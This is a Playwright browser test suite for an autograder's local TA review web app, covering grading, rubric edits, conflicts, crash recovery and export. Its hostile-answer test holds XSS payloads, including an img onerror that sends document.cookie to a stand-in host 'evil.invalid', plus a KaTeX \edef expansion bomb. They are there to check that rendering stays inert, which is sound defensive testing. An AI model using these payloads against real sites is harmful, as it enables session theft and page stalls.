"""`review` in a real browser: Debian's headless Chromium driven by Playwright.

Each test starts `python -m autograder review OUT --port 0` on a made-up graded OUT
(autograder/bench/review_class.py) and clicks through the pages as a TA would. Every page is
opened with request interception: a request to anywhere but this server is recorded
and aborted, so "nothing left the page" is checked, not assumed.
"""

from __future__ import annotations

import base64
import csv
import json
import os
import re
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.bench.review_class import make_out, png_attachment
from autograder.review.db import Store
from autograder.rubric import load_rubric
from tests.conftest import REPO

pytestmark = pytest.mark.slow
CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync"]  # fmt: skip
RUBRIC = load_rubric()
SCREENSHOT = REPO / "docs" / "review-page.png"
BACKWARD = (
    "With $\\delta = 2(\\hat y - y)$:\n\n"
    "$$\\frac{\\partial L}{\\partial W_2} = \\delta\\, u^\\top, \\qquad "
    "\\frac{\\partial L}{\\partial W_1} = "
    "\\big((W_2^\\top \\delta) \\odot u(1-u)\\big)\\, x^\\top$$"
)
GRADIENT = "$\\nabla L(w) = (a w_1, b w_2)$, so $w^* = (0, 0)$."


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), "apt-get install chromium (scripts/setup.sh does)"
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


class Server:
    def __init__(self, out: Path) -> None:
        self.out = out
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "autograder", "review", str(out), "--port", "0"],
            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        line = self.proc.stdout.readline()
        m = re.search(r"(http://127\.0\.0\.1:\d+)/\?token=(\S+)", line)
        assert m, (line, self.proc.stderr.read() if self.proc.poll() is not None else "")
        self.base, self.token = m.group(1), m.group(2)
        self.url = f"{self.base}/?token={self.token}"

    def stop(self, sig: int = signal.SIGTERM) -> None:
        if self.proc.poll() is None:
            self.proc.send_signal(sig)
            self.proc.wait(timeout=20)


@pytest.fixture
def serve():
    started: list[Server] = []

    def start(out: Path) -> Server:
        started.append(Server(out))
        return started[-1]

    yield start
    for s in started:
        s.stop(signal.SIGKILL)


class Tab:
    """One browser session (a TA): its page, and everything it tried that it should not."""

    def __init__(self, browser, server: Server) -> None:
        self.server = server
        self.ctx = browser.new_context(viewport={"width": 1400, "height": 900})
        self.external: list[str] = []
        self.dialogs: list[str] = []
        self.ctx.route("**/*", self._route)
        self.page = self.ctx.new_page()
        self.page.on("dialog", self._dialog)
        self.page.goto(server.url)  # the token becomes an HttpOnly cookie

    def _route(self, route) -> None:
        if route.request.url.startswith(self.server.base + "/"):
            route.continue_()
        else:
            self.external.append(route.request.url)
            route.abort()

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, path: str) -> None:
        self.page.goto(self.server.base + path)
        self.page.wait_for_selector("body[data-ready='1']")

    def act(self, action) -> None:
        """Do something that saves, and wait for the page to show the saved state."""
        with self.page.expect_navigation():
            action()
        self.page.wait_for_selector("body[data-ready='1']")

    def rubric(self, n: int):
        return self.page.locator("#rubric .ritem").nth(n - 1)

    def score(self) -> str:
        return self.page.locator("#score").inner_text()

    def state(self, item: str, student: str) -> dict:
        r = self.page.request.get(f"{self.server.base}/api/state/{item}/{student}")
        assert r.ok
        return r.json()

    def overview_row(self, student: str) -> dict[str, str]:
        self.open("/")
        row = self.page.locator(f"#s-{student}")
        return {k: row.locator(f".{k}").inner_text() for k in ("auto", "manual", "total")}


def _csv(out: Path) -> dict[str, dict[str, str]]:
    return {r["student"]: r for r in csv.DictReader(open(out / "manual.csv"))}


def test_grade_one_answer_by_click_and_key_and_see_the_total_change(browser, serve, tmp_path):
    out = make_out(tmp_path / "out", {"ann": {"q1_backward": BACKWARD}, "bob": {}},
                   auto_passed={"ann": 0.5})  # fmt: skip
    tab = Tab(browser, serve(out))
    before = tab.overview_row("ann")
    half = f"{load_rubric().auto_points / 2:g}"  # half the checks passed
    assert before["manual"] == "" and before["auto"] == before["total"] == half
    tab.open("/item/q1_backward/ann")
    assert tab.score() == "–"
    assert tab.page.locator("#answer .katex").count() == 2  # the math is typeset
    tab.act(lambda: tab.rubric(1).locator(".apply").click())
    assert tab.score() == "0.25" and "on" in tab.rubric(1).get_attribute("class")
    tab.act(lambda: tab.page.keyboard.press("2"))  # number keys apply items too
    assert tab.score() == "0.5"
    tab.page.fill("#comment", "Right, but give the shapes.")
    tab.act(lambda: tab.page.click("#save"))
    assert tab.page.locator("#comment").input_value() == "Right, but give the shapes."
    shot = tab.page.screenshot()  # the README's picture; `make docs` writes it to docs/
    assert shot.startswith(b"\x89PNG") and len(shot) > 20_000
    if os.environ.get("HW2_UPDATE_DOCS"):  # not on every run: the hostile suite hashes the repo
        SCREENSHOT.write_bytes(shot)
    tab.page.fill("#comment", "Right; give the shapes too.")
    tab.act(lambda: tab.page.click("#next"))  # moving on saves the edited comment first
    assert tab.page.url.endswith("/item/q1_backward/bob")
    assert tab.state("q1_backward", "ann")["comment"] == "Right; give the shapes too."
    tab.page.fill("#comment", "not graded yet")  # an ungraded answer: no silent grade of 0
    tab.page.click("#prev")
    assert "comment is not saved" in tab.page.inner_text("#banner")
    assert tab.page.url.endswith("/bob") and not tab.state("q1_backward", "bob")["graded"]
    tab.page.fill("#comment", "")
    tab.page.locator("body").click(position={"x": 5, "y": 400})
    tab.page.keyboard.press("k")  # previous student, by key
    tab.page.wait_for_url(re.compile(r"/item/q1_backward/ann$"))
    after = tab.overview_row("ann")
    assert after == {"auto": "2.125", "manual": "0.5", "total": "2.625"}
    assert "1 / 2 graded" in tab.page.locator(".progress[data-item=q1_backward]").inner_text()
    assert _csv(out)["ann"]["q1_backward"] == "0.5"
    assert tab.external == [] and tab.dialogs == []


def test_editing_a_rubric_items_points_rescores_every_answer_it_is_on(browser, serve, tmp_path):
    out = make_out(tmp_path / "out", {s: {"q2_slow": f"answer of {s}"} for s in "abcd"})
    store = Store(out, RUBRIC)
    store.load(log=lambda m: None)
    first, second = (r["id"] for r in store.rubric_items("q2_slow"))
    store.set_grade("q2_slow", {"a": 0}, [first], "")
    store.set_grade("q2_slow", {"b": 0}, [first, second], "")
    store.set_grade("q2_slow", {"c": 0}, [second], "")
    store.close()
    tab = Tab(browser, serve(out))
    assert [tab.overview_row(s)["manual"] for s in "abcd"] == ["0.25", "0.75", "0.5", ""]
    tab.open("/item/q2_slow/d")
    tab.rubric(1).locator(".edit").click()
    tab.page.fill("#rubric-form input[name=points]", "0.5")
    tab.page.fill("#rubric-form input[name=text]", "the scenario a/b ≫ 1, stated clearly")
    tab.act(lambda: tab.page.click("#rubric-form button[type=submit]"))
    assert "+0.5" in tab.rubric(1).inner_text() and "stated clearly" in tab.rubric(1).inner_text()
    # a: 0.5; b: 0.5 + 0.5 clamped to the item's 0.75; c: untouched; d: not graded.
    assert [tab.overview_row(s)["manual"] for s in "abcd"] == ["0.5", "0.75", "0.5", ""]
    assert [_csv(out)[s]["q2_slow"] for s in "abcd"] == ["0.5", "0.75", "0.5", ""]
    tab.open("/item/q2_slow/d")  # a new rubric item, made in the page and applied by key 3
    tab.page.click("#rubric-add")
    tab.page.fill("#rubric-form input[name=points]", "0.75")
    tab.page.fill("#rubric-form input[name=text]", "everything, said in one line")
    tab.act(lambda: tab.page.click("#rubric-form button[type=submit]"))
    tab.act(lambda: tab.page.keyboard.press("3"))
    assert tab.score() == "0.75" and "one line" in tab.rubric(3).inner_text()


def test_grade_a_group_split_one_off_and_zero_the_unanswered(browser, serve, tmp_path):
    out = make_out(
        tmp_path / "out",
        {
            "ann": {"q2_gradient": GRADIENT},
            "bob": {"q2_gradient": GRADIENT.replace(" = ", "=").replace(", ", ",\\, ")},
            "cy": {"q2_gradient": "  " + GRADIENT + "\n\n"},
            "dee": {"q2_gradient": "$\\nabla L = (a, b)$"},
            "eve": {},
            "fay": {"q2_gradient": "   "},
        },
    )
    tab = Tab(browser, serve(out))
    tab.open("/item/q2_gradient/ann")
    assert "Group of 3 identical answers (ann, bob, cy)" in tab.page.inner_text("#group")
    tab.act(lambda: tab.rubric(1).locator(".apply").click())
    for s in ("ann", "bob", "cy"):
        st = tab.state("q2_gradient", s)
        assert st["graded"] and st["score"] == 0.25
    assert not tab.state("q2_gradient", "dee")["graded"]
    tab.open("/item/q2_gradient/cy")
    tab.act(lambda: tab.page.click("#split"))
    assert tab.page.locator("#group").count() == 0
    tab.act(lambda: tab.rubric(2).locator(".apply").click())  # cy alone: items 1 and 2
    assert tab.state("q2_gradient", "cy")["score"] == 0.5
    assert tab.state("q2_gradient", "ann")["score"] == 0.25  # the group kept its grade
    tab.open("/item/q2_gradient/eve")
    assert "Group of 2 unanswered answers (eve, fay)" in tab.page.inner_text("#group")
    tab.act(lambda: tab.page.click("#no-answer"))
    assert "Gave 0 to 2 unanswered; skipped 0" in tab.page.inner_text("#banner")
    for s in ("eve", "fay"):
        st = tab.state("q2_gradient", s)
        assert (st["graded"], st["score"], st["comment"]) == (True, 0, "no answer")
    assert tab.page.locator("#next-ungraded").get_attribute("data-to") == "dee"


def test_two_sessions_in_conflict_the_stale_save_is_refused(browser, serve, tmp_path):
    out = make_out(tmp_path / "out", {"ann": {"q1_backward": BACKWARD}})
    server = serve(out)
    one, two = Tab(browser, server), Tab(browser, server)
    one.open("/item/q1_backward/ann")
    two.open("/item/q1_backward/ann")
    one.act(lambda: one.rubric(1).locator(".apply").click())
    two.page.fill("#comment", "from a stale view")
    two.act(lambda: two.rubric(2).locator(".apply").click())
    banner = two.page.locator("#banner")
    assert banner.is_visible() and "changed by someone else" in banner.inner_text()
    assert two.score() == "0.25"  # the page shows the current state: TA one's grade
    assert two.page.locator("#comment").input_value() == "from a stale view"  # kept, unsaved
    assert "on" in two.rubric(1).get_attribute("class")
    assert "on" not in (two.rubric(2).get_attribute("class") or "")
    st = two.state("q1_backward", "ann")
    assert st["applied"] == [st["rubric"][0]["id"]] and st["comment"] == ""


HOSTILE = {
    "h_script": "<script>window.pwned = 1; fetch('/api/grade', {method: 'POST'})</script> x",
    "h_img": '<img src=x onerror="window.pwned = 1; new Image().src = '
    "'http://evil.invalid/?' + document.cookie\">",
    "h_js": '<a id="jl" href="javascript:window.pwned=1">click me</a> '
    "[md link](javascript:alert(1))"
    " $\\href{javascript:window.pwned=1}{math link}$",
    "h_frames": '<iframe src="http://evil.invalid/"></iframe><object data="http://evil.invalid/o">'
    '</object><embed src="http://evil.invalid/e">',
    "h_svg": '<svg onload="window.pwned=1"><script>window.pwned=1</script><image '
    'href="http://evil.invalid/s.png"/></svg>',
    "h_css": "<style>@import url(http://evil.invalid/a.css); body {background: "
    'url(http://evil.invalid/b.png)}</style><p style="background:url(http://evil.invalid/c.png)">'
    'styled</p><link rel="stylesheet" href="http://evil.invalid/d.css">'
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    "h_huge": "$x_{i}$ and text " * 150_000,
}
BIG_PNG = b"\x89PNG\r\n\x1a\n" + os.urandom(20 << 20)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1'
SVG += b"</script></svg>"


def test_hostile_answers_are_inert(browser, serve, tmp_path):
    answers = {s: {"q1_backward": text} for s, text in HOSTILE.items()}
    answers["h_bigimg"] = {"q1_backward": ("![me](attachment:big.png)",
                                           {"big.png": png_attachment(BIG_PNG)})}  # fmt: skip
    answers["h_svgatt"] = {"q1_backward": ("![s](attachment:s.svg)",
                                           {"s.svg": {"image/svg+xml": SVG.decode()}})}  # fmt: skip
    out = make_out(tmp_path / "out", answers)
    server = serve(out)
    tab = Tab(browser, server)
    for student in answers:
        tab.open(f"/item/q1_backward/{student}")
        for link in tab.page.locator("#answer a").all():
            link.click(timeout=2000)  # a click on any link the answer kept
        tab.page.wait_for_timeout(200)
        assert tab.page.evaluate("window.pwned") is None, student
        assert server.token not in tab.page.evaluate("document.cookie"), student
        assert server.token not in tab.page.content(), student
        assert tab.page.url.startswith(server.base), student
    assert tab.external == [] and tab.dialogs == []
    page = tab.page.inner_text("main")
    assert "not shown (not a PNG/JPEG/GIF/WebP image)" in page  # h_svgatt, the last one
    tab.open("/item/q1_backward/h_bigimg")
    assert "not shown (20.0 MB, too large)" in tab.page.inner_text("main")
    tab.open("/item/q1_backward/h_huge")
    assert "answer cut for display" in tab.page.inner_text("#answer")
    for student in answers:  # no grade changed, no rubric item added
        st = tab.state("q1_backward", student)
        assert not st["graded"] and set(st["versions"].values()) == {0}
        assert len(st["rubric"]) == 6
    assert _csv(out)["h_script"]["q1_backward"] == ""


def test_grades_survive_sigkill_of_the_server(browser, serve, tmp_path):
    out = make_out(tmp_path / "out", {"ann": {"q1_backward": BACKWARD}, "bob": {}})
    server = serve(out)
    tab = Tab(browser, server)
    tab.open("/item/q1_backward/ann")
    tab.page.fill("#comment", "kept across a crash")
    tab.act(lambda: tab.rubric(4).locator(".apply").click())
    assert tab.score() == "0.5"
    server.stop(signal.SIGKILL)  # no clean shutdown: only what was committed counts
    again = Tab(browser, serve(out))
    again.open("/item/q1_backward/ann")
    assert again.score() == "0.5"
    assert again.page.locator("#comment").input_value() == "kept across a crash"
    assert _csv(out)["ann"]["q1_backward"] == "0.5"


@pytest.mark.skipif(not shutil.which("xelatex"), reason="no TeX: no graded PDFs")
def test_export_reaches_grades_csv_results_json_and_the_pdf(browser, serve, tmp_path, capfd):
    out = make_out(tmp_path / "out", {"ann": {"q1_backward": BACKWARD}})
    (out / "pdf").mkdir()
    server = serve(out)
    tab = Tab(browser, server)
    tab.open("/item/q1_backward/ann")
    tab.page.fill("#comment", "Check the transpose in dW2")
    tab.act(lambda: tab.rubric(2).locator(".apply").click())
    server.stop()
    run = [sys.executable, "-m", "autograder", "review", str(out), "--export", "--jobs", "1"]
    first = subprocess.run(run, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert first.returncode == 0, first.stderr
    grades = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    assert grades["ann"]["q1_backward"] == "0.25" and grades["ann"]["manual_total"] == "0.25"
    res = json.loads((out / "results" / "ann.json").read_text())
    test = next(t for t in res["tests"] if "q1_backward" in t["tags"])
    assert test["score"] == 0.25 and "Comment: Check the transpose in dW2" in test["output"]
    # Plain text on Gradescope: the rubric item's math in Unicode, never raw LaTeX.
    assert "- ∂L/∂W₂ = δuᵀ (transpose in the right place). (+0.25)" in test["output"]
    text = subprocess.run(["pdftotext", "-layout", str(out / "pdf" / "ann.pdf"), "-"],
                          capture_output=True, text=True, check=True).stdout  # fmt: skip
    assert "Check the transpose in dW2" in text and "q1_backward" in text
    from autograder.review.export import export

    capfd.readouterr()
    export(out, jobs=1)  # again, nothing changed: no PDF is rendered
    assert "rendering" not in capfd.readouterr().err


def test_attachment_image_is_shown(browser, serve, tmp_path):
    png = base64.b64decode(png_attachment()["image/png"])
    answer = ("![graph](attachment:g.png)", {"g.png": png_attachment(png)})
    out = make_out(tmp_path / "out", {"ann": {"q1_graph": answer}})
    tab = Tab(browser, serve(out))
    tab.open("/item/q1_graph/ann")
    img = tab.page.locator("#answer img")
    assert img.evaluate("i => i.complete && i.naturalWidth") == 1
    assert tab.external == []


# CVE-2024-28243: each \edef multiplies the token list by 10 while KaTeX counted one expansion;
# five levels are 10⁵ tokens per formula (about 30 s each with KaTeX 0.16.4), three formulas
# kept a page from loading for minutes. A fixed KaTeX stops at maxExpand and says so.
# HW2_KATEX_DIR=/usr/share/javascript/katex (Debian's 0.16.4) makes the test below time out.
EDEF_BOMB = "$" + "\\def\\a{x}" + ("\\edef\\a{" + "\\a" * 10 + "}") * 5 + "\\a$"
MATH_SECONDS = 60  # generous: a fixed KaTeX typesets this page in well under a second


def test_nested_edef_chains_cannot_stall_the_page(browser, serve, tmp_path):
    from autograder.review.server import katex_dir

    assert katex_dir() is not None, "KaTeX not installed: run scripts/install_katex.sh"
    answer = f"First {EDEF_BOMB}, then {EDEF_BOMB}, and {EDEF_BOMB}."
    out = make_out(tmp_path / "out", {"ann": {"q1_backward": answer}})
    tab = Tab(browser, serve(out))
    tab.page.goto(tab.server.base + "/item/q1_backward/ann", wait_until="commit")
    tab.page.wait_for_selector("body[data-ready='1']", timeout=MATH_SECONDS * 1000)
    assert tab.page.locator("#answer .math").count() == 3
    assert tab.page.locator("#answer .katex-error").count() == 3  # refused, not expanded
    assert tab.external == []
    tab.ctx.close()


def test_two_servers_on_one_host_keep_their_own_sessions(browser, serve, tmp_path):
    """One browser (one cookie jar) signed in to two review servers: browsers send a host's
    cookies to all its ports, so with one cookie name the second sign-in logged out the first."""
    a = serve(make_out(tmp_path / "a", {"ann": {"q2_slow": "answer of ann"}}))
    b = serve(make_out(tmp_path / "b", {"bob": {"q2_slow": "answer of bob"}}))
    ctx = browser.new_context()
    page = ctx.new_page()
    page.goto(a.url)
    page.goto(b.url)
    for server, student in ((a, "ann"), (b, "bob"), (a, "ann")):
        r = page.goto(f"{server.base}/item/q2_slow/{student}")
        assert r.status == 200, (server.base, r.status, page.content()[:200])
        assert f"answer of {student}" in page.inner_text("#answer")
    assert len({c["name"] for c in ctx.cookies()}) == 2
    ctx.close()
